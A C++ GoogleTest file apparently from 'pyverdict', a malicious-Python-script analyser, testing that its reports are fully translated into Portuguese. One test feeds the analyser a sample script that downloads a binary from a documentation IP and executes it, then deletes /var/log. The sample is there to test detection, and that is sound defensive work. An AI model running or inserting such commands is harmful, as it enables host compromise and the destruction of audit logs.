#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <vector>

#include "behaviour/behaviour.h"
#include "behaviour/rules.h"
#include "behaviour_examples.h"
#include "diagnostic/diagnostic.h"
#include "language/messages.h"
#include "language/tables.h"
#include "pyverdict.h"

namespace pyverdict::language {
namespace {

TEST(Language, EveryMessageIsThereInEveryLanguage) {
  for (std::size_t i = 0; i < kMessageCount; ++i) {
    for (const Language language : {Language::English, Language::Portuguese})
      EXPECT_FALSE(text(static_cast<Message>(i), language).empty()) << i;
  }
  for (std::size_t i = 0; i < diagnostic::kCodeCount; ++i) {
    const auto code = static_cast<diagnostic::Code>(i);
    EXPECT_NE(diagnostic::sentence(code, Language::English),
              diagnostic::sentence(code, Language::Portuguese));
    EXPECT_FALSE(diagnostic::sentence(code, Language::Portuguese).empty()) << diagnostic::name(code);
  }
}

TEST(Language, EveryBehaviourHasATitleAndAClauseInPortuguese) {
  std::string missing;
  for (const behaviour::Behaviour& row : behaviour::catalogue()) {
    const std::string_view title = behaviour_title(row.id, Language::Portuguese);
    const std::string_view does = behaviour_does(row.id, Language::Portuguese);
    if (title.empty() || does.empty()) missing += std::string(row.id) + ' ';
    const auto slot = [](std::string_view clause) {
      return clause.substr(std::min(clause.find('{'), clause.size()), 4);
    };
    if (!does.empty()) EXPECT_EQ(slot(does), slot(row.does)) << row.id;
  }
  EXPECT_EQ(missing, "") << "add these to src/language/behaviours_pt.inc";
}

TEST(Language, EveryPieceOfCounterEvidenceHasATitle) {
  for (const behaviour::CounterRow& row : behaviour::counter_rows()) {
    const std::string_view english = counter_title(row.id, Language::English);
    EXPECT_FALSE(english.empty()) << row.id << ": add it to src/language/counters.inc";
    EXPECT_NE(english, counter_title(row.id, Language::Portuguese)) << row.id;
  }
}

TEST(Language, ClausesBeginASentence) {
  for (const behaviour::Behaviour& row : behaviour::catalogue()) {
    for (const std::string_view clause : {row.does, behaviour_does(row.id, Language::Portuguese)})
      EXPECT_TRUE(!clause.empty() && clause[0] >= 'a' && clause[0] <= 'z') << clause;
  }
}

TEST(Language, PlacesAreFilledInOrder) {
  EXPECT_EQ(fill(Message::RelatedHash, Language::English, {"H", "/a", "/b"}),
            "The same file (SHA-256 H) is /a here and /b there.");
  EXPECT_EQ(fill(Message::LinesTo, Language::Portuguese, {"1", "{0}"}), "linhas 1 a {0}");
}

TEST(Language, DurationsAreSaidInTheLargestUnitThatIsThereTwice) {
  EXPECT_EQ(duration(1, Language::English), "1 second");
  EXPECT_EQ(duration(119, Language::English), "119 seconds");
  EXPECT_EQ(duration(120, Language::English), "2 minutes");
  EXPECT_EQ(duration(7199, Language::Portuguese), "119 minutos");
  EXPECT_EQ(duration(3 * 86'400, Language::Portuguese), "3 dias");
}

using Json = nlohmann::json;

/// The members of a report that people read, by their names in its JSON.
const std::set<std::string> kForPeople = {"summary", "counterTitles", "title",   "reason", "purpose",
                                          "meaning", "why",           "message", "notes",  "note"};

/// What people read in a report, each with the place where it stands. `step` is whether the value is a step
/// of the response or a part of it: the names of its sources are read as well.
void sentences(const Json& value, const std::string& place, bool for_people,
               std::vector<std::pair<std::string, std::string>>& out) {
  if (value.is_string() && for_people) out.emplace_back(place, value.get<std::string>());
  if (value.is_array()) {
    for (const Json& item : value) sentences(item, place, for_people, out);
  }
  if (value.is_object()) {
    for (const auto& [key, item] : value.items()) {
      const bool source = place.ends_with(".source") && key == "name";
      sentences(item, place + '.' + key, source || kForPeople.contains(key), out);
    }
  }
}

/// Both languages say as much, in other words. Gives what was said in both.
void expect_both_languages(const std::string& input, std::set<std::string>& places) {
  const Analysis english = analyze(input);
  const Analysis portuguese = analyze(input, {.language = Language::Portuguese});
  ASSERT_EQ(english.items.size(), portuguese.items.size());
  for (std::size_t i = 0; i < english.items.size(); ++i) {
    std::vector<std::pair<std::string, std::string>> en;
    std::vector<std::pair<std::string, std::string>> pt;
    sentences(Json::parse(report::to_json(english.items[i].report)), "", false, en);
    sentences(Json::parse(report::to_json(portuguese.items[i].report)), "", false, pt);
    ASSERT_EQ(en.size(), pt.size());
    for (std::size_t k = 0; k < en.size(); ++k) {
      EXPECT_EQ(en[k].first, pt[k].first);
      EXPECT_EQ(en[k].second.empty(), pt[k].second.empty()) << en[k].first << ": " << en[k].second;
      if (!en[k].second.empty()) {
        EXPECT_NE(en[k].second, pt[k].second) << en[k].first;
        places.insert(en[k].first);
      }
    }
  }
}

TEST(Language, NothingThatPeopleReadInAReportStaysInEnglish) {
  std::set<std::string> places;
  for (const auto examples :
       {behaviour::execution_examples(), behaviour::control_examples(), behaviour::credential_examples(),
        behaviour::host_examples(), behaviour::impact_examples(), behaviour::cloud_examples(),
        behaviour::collection_examples(), behaviour::damage_examples(), behaviour::hiding_examples()}) {
    for (const behaviour::Example& example : examples) {
      SCOPED_TRACE(example.id);
      expect_both_languages(std::string(example.match), places);
    }
  }
  const std::filesystem::path cases = PYVERDICT_TEST_CASES;
  for (const auto& entry : std::filesystem::directory_iterator(cases / "findings")) {
    SCOPED_TRACE(entry.path().filename().string());
    std::ifstream in(entry.path(), std::ios::binary);
    expect_both_languages({std::istreambuf_iterator<char>(in), {}}, places);
  }
  std::ifstream stories(cases / "stories.jsonl");
  for (std::string line; std::getline(stories, line);) {
    Json all = Json::array();
    const Json story = Json::parse(line);
    for (const Json& finding : story.at("findings"))
      all.push_back({{"finding", finding.at("finding")}, {"resource", finding.at("resource")}});
    expect_both_languages(all.dump(), places);
  }
  expect_both_languages("import logging, argparse\nlogging.basicConfig()\n", places);
  // All of it was there to be compared.
  const std::set<std::string> wanted = {".verdict.summary",
                                        ".verdict.counterTitles",
                                        ".evidence.title",
                                        ".related.why",
                                        ".input.script.meaning",
                                        ".finding.detector.meaning",
                                        ".response.steps.title",
                                        ".response.steps.reason",
                                        ".response.commands.note",
                                        ".response.commands.purpose",
                                        ".response.commands.source.name",
                                        ".response.notes",
                                        ".response.steps.source.name",
                                        ".diagnostics.message"};
  EXPECT_EQ(places, wanted);
}

TEST(Language, AReportInPortugueseSaysTheSame) {
  const std::string_view script =
      "import os, logging\nlogging.basicConfig()\nos.system('curl http://192.0.2.1/x -o /tmp/x && chmod +x "
      "/tmp/x "
      "&& /tmp/x')\n"
      "import sys\nsys.exit()\nos.system('rm -rf /var/log')\n";
  const Analysis english = analyze(script);
  const Analysis portuguese = analyze(script, {.language = Language::Portuguese});
  const report::Report& en = english.items.front().report;
  const report::Report& pt = portuguese.items.front().report;
  EXPECT_EQ(en.verdict.label, pt.verdict.label);
  EXPECT_EQ(en.verdict.reasons, pt.verdict.reasons);
  const std::string markdown = report::to_markdown(pt);
  EXPECT_EQ(markdown.rfind("# Veredicto: malicioso", 0), 0u) << markdown.substr(0, 60);
  for (const char* word : {"# Verdict", "## Why", "## Indicators", "Response plan", "Containment",
                           "cannot run", "`logging`", "download", "written", " path `", " url `"})
    EXPECT_EQ(markdown.find(word), std::string::npos) << word;
  for (const char* word : {"Configura um registo", "Endereço IPv4", "Caminho", "transferência"})
    EXPECT_NE(markdown.find(word), std::string::npos) << word << '\n' << markdown;
}

}  // namespace
}  // namespace pyverdict::language
